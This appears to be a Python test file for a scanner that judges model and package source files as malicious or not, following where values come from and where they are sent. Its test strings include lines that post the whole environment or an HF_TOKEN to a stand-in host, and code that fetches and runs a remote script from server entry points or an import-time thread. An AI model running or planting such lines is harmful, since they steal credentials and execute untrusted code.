"""Python is judged by where its values come from and where they go."""

from __future__ import annotations

import tomllib
from pathlib import Path

from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.scanning import BytesSource
from schemas.severity import Verdict
from tests.each import each

_CODE = tomllib.loads((Path(__file__).parents[4] / "data" / "python_code.toml").read_text("utf-8"))
_SETUP = "\nfrom setuptools import setup\nsetup(name='a')\n"


def _verdict(name: str, text: str, *beside: str) -> Verdict:
    return scan_source(name, BytesSource(text.encode()), frozenset((name, *beside))).verdict


@each("name", list(_CODE["hostile"]))
def test_what_serves_another_is_malicious_where_it_is_run(name):
    text = _CODE["hostile"][name]
    assert _verdict("modeling_a.py", text, "config.json") is Verdict.MALICIOUS
    assert _verdict("setup.py", text + _SETUP) is Verdict.MALICIOUS


@each("name", list(_CODE["ordinary"]))
def test_what_clients_and_builds_do_is_never_malicious(name):
    text = _CODE["ordinary"][name]
    assert _verdict("modeling_a.py", text, "config.json") is not Verdict.MALICIOUS
    assert _verdict("tool/__init__.py", text, "tool-1.dist-info/RECORD") is not Verdict.MALICIOUS
    assert _verdict("train.py", text) is not Verdict.MALICIOUS


_SENT = "import os, requests\ndef f():\n    requests.post('https://{host}/c', {given})\n"


@each(
    ("host", "given", "malicious"),
    [
        ("files.example", "json=dict(os.environ)", True),
        ("localhost", "json=dict(os.environ)", False),
        ("files.example", "data=os.environ['HF_TOKEN']", True),
        ("huggingface.co", "json={'t': os.environ['HF_TOKEN']}", False),
        ("huggingface.co", "headers={'a': os.environ['HF_TOKEN']}", False),
        ("files.example", "json={'lr': os.environ['LR']}", False),
    ],
)
def test_a_token_may_go_to_the_service_that_it_is_of(host, given, malicious):
    text = _SENT.format(host=host, given=given)
    found = _verdict("modeling_a.py", text, "config.json")
    assert (found is Verdict.MALICIOUS) is malicious


@each(
    ("functions", "malicious"),
    [
        (("model_fn",), True),
        (("init", "run"), True),
        (("lambda_handler",), True),
        (("run",), False),
        (("collect",), False),
    ],
)
def test_what_servers_call_by_its_name_counts_as_run(functions, malicious):
    fetch = "urllib.request.urlretrieve('https://files.example/p.py', 'p.py')"
    bodies = "".join(f"def {name}(a=None):\n    pass\n" for name in functions[:-1])
    last = f"def {functions[-1]}(a=None):\n    {fetch}\n    runpy.run_path('p.py')\n"
    found = _verdict("inference.py", f"import runpy, urllib.request\n{bodies}{last}", "config.json")
    assert (found is Verdict.MALICIOUS) is malicious


def test_what_a_module_starts_beside_itself_counts_as_run():
    text = (
        "import os, threading, requests\ndef go():\n    "
        "requests.post('https://files.example/c', json=dict(os.environ))\n"
    )
    start = "threading.Thread(target=go, daemon=True).start()\n"
    beside = "tool-1.dist-info/RECORD"
    assert _verdict("tool/__init__.py", text + start, beside) is Verdict.MALICIOUS


def test_values_made_of_themselves_are_followed_to_an_end():
    text = "import os, requests\na = b = os.environ\nfor _ in a:\n    a = {**b}\n    b = dict(a)\n"
    send = "requests.post('https://files.example/c', json=b)\n"
    assert _verdict("modeling_a.py", text + send, "config.json") is Verdict.MALICIOUS
